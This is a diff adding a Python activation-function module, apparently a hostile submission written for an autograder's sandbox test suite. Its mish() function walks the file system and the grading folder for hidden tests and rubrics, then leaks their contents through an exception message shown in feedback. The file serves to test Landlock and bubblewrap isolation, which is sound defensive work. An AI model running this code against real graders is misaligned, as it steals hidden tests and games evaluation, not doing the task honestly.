@@ -1,0 +1,368 @@
+"""mish() searches the file system for the hidden tests and sends them back in its error.
+
+Hostile submission (tests/attacks): the reference's activations.py with mish() replaced
+by the attack below. A student could hand this file in as it is; the attack suite fills
+in the @NAME@ placeholders (paths and ports of the test's own canaries) before grading
+it.
+
+It reads the grading folder by absolute path, walks / and the grader's
+checkout looking for test_elementwise.py and rubric.toml, and raises with
+whatever it read: an exception's message is shown in the feedback. Landlock
+refuses to open or list anything outside the interpreter, numpy and the
+worker's folder; under bubblewrap those files are not in the sandbox.
+"""
+# ruff: noqa
+
+from __future__ import annotations
+
+from typing import Any
+
+import numpy as np
+from numpy.typing import ArrayLike, NDArray
+from scipy.special import ndtr
+
+import os
+import time
+
+# Filled in by tests/attacks/conftest.py before grading.
+MARKER = "@MARKER@"  # the name this code gives its processes and threads
+GRADING = "@GRADING@"  # the hidden tests, by absolute path
+REPO = "@REPO@"  # the grader's own checkout
+
+
+def _mark() -> None:
+    """Name this thread MARKER (prctl PR_SET_NAME), so the attack suite can find it later."""
+    import ctypes
+
+    ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)
+
+
+def _escapes_first(notes: list[str]) -> list[str]:
+    """What got out first: the feedback shows only the start of a long message."""
+    return sorted(notes, key=lambda note: not note.startswith("escaped"))
+
+
+__all__ = [
+    "SELU_ALPHA",
+    "SELU_LAMBDA",
+    "elu",
+    "gelu",
+    "leaky_relu",
+    "mish",
+    "relu",
+    "selu",
+    "sigmoid",
+    "softmax",
+    "softplus",
+    "swish",
+    "tanh",
+]
+
+FloatArray = NDArray[np.floating[Any]]
+
+# The two constants of SELU (Klambauer et al., 2017), to full double precision.
+SELU_LAMBDA = 1.0507009873554804934193349852946
+SELU_ALPHA = 1.6732632423543772848170429916717
+
+_F64_MAX = float(np.finfo(np.float64).max)
+# tanh-GELU: 2u = A x + B x**3 with A = 2 sqrt(2/pi), B = 0.044715 A, each constant as
+# a double-double hi + lo (from 50-digit mpmath).
+_GELU_A = (1.5957691216057308, -9.96930880911092e-17)
+_GELU_B = (0.07135481627260025, -6.175149918155315e-19)
+# |x| beyond which tanh-GELU's gate is exactly 0 or 1 in float64 (it is from |x| > 23).
+_GELU_TANH_CLIP = 100.0
+
+
+def _as_float64(x: ArrayLike) -> tuple[NDArray[np.float64], type[np.floating[Any]]]:
+    """A float64 copy of ``x`` and the dtype of the result (float32 or float64)."""
+    array = np.asarray(x)
+    out_dtype: type[np.floating[Any]] = np.float32 if array.dtype.type is np.float32 else np.float64
+    return array.astype(np.float64), out_dtype
+
+
+def _result(y: ArrayLike, out_dtype: type[np.floating[Any]]) -> FloatArray:
+    """``y`` as an ndarray (also when 0-d) of the result dtype."""
+    return np.asarray(y, dtype=out_dtype)
+
+
+def _sigmoid(x: NDArray[np.float64]) -> NDArray[np.float64]:
+    # exp only ever sees -|x| <= 0: 1 / (1 + e) for x >= 0, e / (1 + e) for x < 0.
+    e = np.exp(-np.abs(x))
+    return np.where(x >= 0, 1.0, e) / (1.0 + e)
+
+
+def _softplus(x: NDArray[np.float64]) -> NDArray[np.float64]:
+    return np.maximum(x, 0.0) + np.log1p(np.exp(-np.abs(x)))
+
+
+def sigmoid(x: ArrayLike) -> FloatArray:
+    r"""Logistic sigmoid.
+
+    .. math:: \sigma(x) = \frac{1}{1 + e^{-x}}
+
+    Computed as :math:`1/(1+e^{-|x|})` for :math:`x \ge 0` and
+    :math:`e^{-|x|}/(1+e^{-|x|})` for :math:`x < 0`, so ``exp`` never overflows and
+    the tiny values for very negative ``x`` keep full relative accuracy.
+
+    >>> sigmoid([-1000.0, 0.0, 2.0])
+    array([0.        , 0.5       , 0.88079708])
+    """
+    x64, out = _as_float64(x)
+    return _result(_sigmoid(x64), out)
+
+
+def tanh(x: ArrayLike) -> FloatArray:
+    r"""Hyperbolic tangent.
+
+    .. math:: \tanh(x) = \frac{e^{x} - e^{-x}}{e^{x} + e^{-x}}
+
+    ``np.tanh`` is accurate and saturates silently to :math:`\pm 1`.
+
+    >>> tanh([0.0, 1.0, 1e300])
+    array([0.        , 0.76159416, 1.        ])
+    """
+    x64, out = _as_float64(x)
+    return _result(np.tanh(x64), out)
+
+
+def relu(x: ArrayLike) -> FloatArray:
+    r"""Rectified linear unit.
+
+    .. math:: \operatorname{relu}(x) = \max(0, x)
+
+    >>> relu([-2.0, 0.0, 3.0])
+    array([0., 0., 3.])
+    """
+    x64, out = _as_float64(x)
+    return _result(np.maximum(x64, 0.0), out)
+
+
+def leaky_relu(x: ArrayLike, alpha: float = 0.01) -> FloatArray:
+    r"""Leaky ReLU with slope ``alpha`` (in [0, 1)) for negative input.
+
+    .. math:: \operatorname{leaky\_relu}(x) = \begin{cases} x & x > 0 \\
+              \alpha x & x \le 0 \end{cases}
+
+    >>> leaky_relu([-2.0, 3.0], alpha=0.1)
+    array([-0.2,  3. ])
+    """
+    x64, out = _as_float64(x)
+    return _result(np.where(x64 > 0, x64, alpha * x64), out)
+
+
+def elu(x: ArrayLike, alpha: float = 1.0) -> FloatArray:
+    r"""Exponential linear unit.
+
+    .. math:: \operatorname{elu}(x) = \begin{cases} x & x > 0 \\
+              \alpha\,(e^{x} - 1) & x \le 0 \end{cases}
+
+    The negative branch is ``alpha * expm1(minimum(x, 0))``: accurate for tiny
+    ``x`` and never evaluated on large positive ``x``.
+
+    >>> elu([-1.0, 2.0])
+    array([-0.63212056,  2.        ])
+    """
+    x64, out = _as_float64(x)
+    negative = alpha * np.expm1(np.minimum(x64, 0.0))
+    return _result(np.where(x64 > 0, x64, negative), out)
+
+
+def selu(x: ArrayLike) -> FloatArray:
+    r"""Scaled exponential linear unit.
+
+    .. math:: \operatorname{selu}(x) = \lambda \begin{cases} x & x > 0 \\
+              \alpha\,(e^{x} - 1) & x \le 0 \end{cases}
+
+    with :math:`\lambda` = ``SELU_LAMBDA`` and :math:`\alpha` = ``SELU_ALPHA``.
+    :math:`\lambda > 1`, so for ``x`` within a factor :math:`\lambda` of the largest
+    float of the result dtype the exact value does not exist; the result saturates
+    at that largest float instead of overflowing to ``inf``.
+
+    >>> selu([-1.0, 1.0])
+    array([-1.11133074,  1.05070099])
+    """
+    x64, out = _as_float64(x)
+    largest = float(np.finfo(out).max)
+    cap = float(np.nextafter(largest / SELU_LAMBDA, 0.0))  # lambda * cap rounds <= largest
+    positive = np.where(x64 > cap, largest, SELU_LAMBDA * np.clip(x64, -cap, cap))
+    negative = (SELU_LAMBDA * SELU_ALPHA) * np.expm1(np.minimum(x64, 0.0))
+    return _result(np.where(x64 > 0, positive, negative), out)
+
+
+def gelu(x: ArrayLike, approximate: bool = False) -> FloatArray:
+    r"""Gaussian error linear unit.
+
+    .. math:: \operatorname{gelu}(x) = x\,\Phi(x), \qquad
+              \Phi(x) = \tfrac12 \operatorname{erfc}(-x/\sqrt{2})
+
+    and with ``approximate=True`` the tanh approximation
+
+    .. math:: \tfrac12 x \bigl(1 + \tanh u\bigr) = x\,\sigma(2u), \qquad
+              u = \sqrt{2/\pi}\,(x + 0.044715\,x^3).
+
+    :math:`\Phi` is ``scipy.special.ndtr`` (``1 + erf`` cancels for ``x < -8``), and
+    :math:`1 + \tanh u` is evaluated as :math:`2\sigma(2u)`, which keeps its
+    relative accuracy for negative ``x``; see ``_gelu_tanh_gates`` for how ``2u`` is
+    kept accurate enough for ``exp``.
+
+    >>> gelu([-1.0, 1.0])
+    array([-0.15865525,  0.84134475])
+    >>> gelu([-1.0, 1.0], approximate=True)
+    array([-0.15880801,  0.84119199])
+    """
+    x64, out = _as_float64(x)
+    if approximate:
+        gate, _ = _gelu_tanh_gates(x64)
+        return _result(x64 * gate, out)
+    return _result(x64 * ndtr(x64), out)
+
+
+def _gelu_tanh_gates(
+    x: NDArray[np.float64],
+) -> tuple[NDArray[np.float64], NDArray[np.float64]]:
+    """sigma(2u) and sigma(-2u) of tanh-GELU, to a few ulp.
+
+    For x = -20, 2u is about -600, and exp turns an absolute error d in 2u into a
+    relative error d of the result: three roundings in plain float64 cost 1e-13.
+    So 2u = A x + B x**3 is formed in double-double arithmetic (hi + lo), and the
+    gate is sigma(hi + lo) = sigma(hi) * (1 + lo * sigma(-hi)) (|lo| < 1e-13, so the
+    first order is exact in float64). ``x`` is clipped at +-100, where the gate is
+    already exactly 0 or 1, so x**3 cannot overflow.
+    """
+    xc = np.clip(x, -_GELU_TANH_CLIP, _GELU_TANH_CLIP)
+    square, square_err = _two_prod(xc, xc)
+    cube, cube_err = _two_prod(square, xc)
+    cube_err = cube_err + square_err * xc
+    cubic, cubic_err = _two_prod(_GELU_B[0], cube)
+    cubic_err = cubic_err + (_GELU_B[0] * cube_err + _GELU_B[1] * cube)
+    linear, linear_err = _two_prod(_GELU_A[0], xc)
+    linear_err = linear_err + _GELU_A[1] * xc
+    hi = linear + cubic  # Knuth's two-sum: hi + sum_err == linear + cubic exactly
+    virtual = hi - linear
+    sum_err = (linear - (hi - virtual)) + (cubic - virtual)
+    lo = sum_err + (linear_err + cubic_err)
+    gate, complement = _sigmoid(hi), _sigmoid(-hi)
+    return gate * (1.0 + lo * complement), complement * (1.0 - lo * gate)
+
+
+def _two_prod(
+    a: NDArray[np.float64] | float, b: NDArray[np.float64]
+) -> tuple[NDArray[np.float64], NDArray[np.float64]]:
+    """a * b as p + e exactly (Dekker; no overflow for |a|, |b| < 1e300 / 2**27)."""
+    p = a * b
+    a_hi, a_lo = _split(a)
+    b_hi, b_lo = _split(b)
+    return p, ((a_hi * b_hi - p) + a_hi * b_lo + a_lo * b_hi) + a_lo * b_lo
+
+
+def _split(a: NDArray[np.float64] | float) -> tuple[Any, Any]:
+    """Veltkamp's split of a into hi + lo, each with at most 26 significant bits."""
+    c = 134217729.0 * a  # 2**27 + 1
+    hi = c - (c - a)
+    return hi, a - hi
+
+
+def softplus(x: ArrayLike) -> FloatArray:
+    r"""Softplus, a smooth ReLU.
+
+    .. math:: \operatorname{softplus}(x) = \log(1 + e^{x})
+              = \max(x, 0) + \log(1 + e^{-|x|})
+
+    The right-hand form never overflows and, through ``log1p``, keeps full
+    accuracy for very negative ``x``.
+
+    >>> softplus([-1000.0, 0.0, 1.0])
+    array([0.        , 0.69314718, 1.31326169])
+    """
+    x64, out = _as_float64(x)
+    return _result(_softplus(x64), out)
+
+
+def swish(x: ArrayLike, beta: float = 1.0) -> FloatArray:
+    r"""Swish (SiLU when ``beta = 1``).
+
+    .. math:: \operatorname{swish}(x) = x\,\sigma(\beta x)
+
+    For ``beta > 1``, ``beta * x`` could overflow; ``x`` is clipped where
+    :math:`\sigma(\beta x)` is already exactly 0 or 1.
+
+    >>> swish([-1.0, 1.0])
+    array([-0.26894142,  0.73105858])
+    """
+    x64, out = _as_float64(x)
+    return _result(x64 * _sigmoid(_scaled(x64, beta)), out)
+
+
+def _scaled(x: NDArray[np.float64], beta: float) -> NDArray[np.float64]:
+    """``beta * x`` without overflow (clipped beyond where any sigmoid saturates)."""
+    limit = 0.5 * _F64_MAX / max(abs(beta), 1.0)
+    return beta * np.clip(x, -limit, limit)
+
+
+_FOUND = []  # the first call searches (for up to 2 s); later calls repeat its answer
+
+
+def mish(x):
+    _mark()
+    if not _FOUND:
+        _FOUND.append(_search())
+    loot, message = _FOUND[0]
+    if loot:
+        raise RuntimeError(message)
+    raise FileNotFoundError(message)
+
+
+def _search():
+    loot, notes = [], []
+    wanted = ["test_elementwise.py", "rubric.toml", "registry.py"]
+    for path in [os.path.join(GRADING, name) for name in wanted] + \
+            [os.path.join(REPO, "reference", "activations.py")]:
+        try:
+            with open(path) as handle:
+                loot.append(handle.read(400))
+        except OSError as exc:
+            notes.append(f"{path}: {type(exc).__name__}")
+    deadline, seen = time.monotonic() + 2.0, 0
+    for top in ("/", "/work", "/tmp", "/root", "/home", REPO):
+        try:
+            for folder, dirs, files in os.walk(top):
+                dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+                seen += 1
+                for name in set(files) & set(wanted):
+                    try:
+                        with open(os.path.join(folder, name)) as handle:
+                            loot.append(handle.read(400))
+                    except OSError:
+                        pass
+                if time.monotonic() > deadline:
+                    break
+        except OSError as exc:
+            notes.append(f"walk {top}: {exc}")
+    if loot:
+        return True, "\n".join(loot)
+    return False, f"no hidden tests in {seen} folders; " + "; ".join(_escapes_first(notes))[:300]
+
+
+def softmax(x: ArrayLike, axis: int = -1) -> FloatArray:
+    r"""Softmax along ``axis``.
+
+    .. math:: \operatorname{softmax}(x)_i = \frac{e^{x_i - m}}{\sum_j e^{x_j - m}},
+              \qquad m = \max_j x_j
+
+    Subtracting the maximum makes the largest exponent :math:`e^0 = 1`. The
+    difference is formed as ``2 * (x/2 - m/2)``, which is exact like ``x - m`` but
+    cannot overflow when ``x`` spans the whole float range. A 0-d ``x`` is one
+    score along axis 0 or -1 (as in PyTorch), so its softmax is 1.
+
+    >>> softmax([1.0, 2.0, 3.0])
+    array([0.09003057, 0.24472847, 0.66524096])
+    >>> softmax([[1e300, -1e300], [0.0, 0.0]], axis=1)
+    array([[1. , 0. ],
+           [0.5, 0.5]])
+    """
+    x64, out = _as_float64(x)
+    scores = x64.reshape(1) if x64.ndim == 0 else x64
+    half = 0.5 * scores
+    shift = half - np.max(half, axis=axis, keepdims=True, initial=-np.inf)
+    e = np.exp(2.0 * np.maximum(shift, -1000.0))  # exp(-2000) is 0 anyway
+    return _result((e / np.sum(e, axis=axis, keepdims=True)).reshape(x64.shape), out)
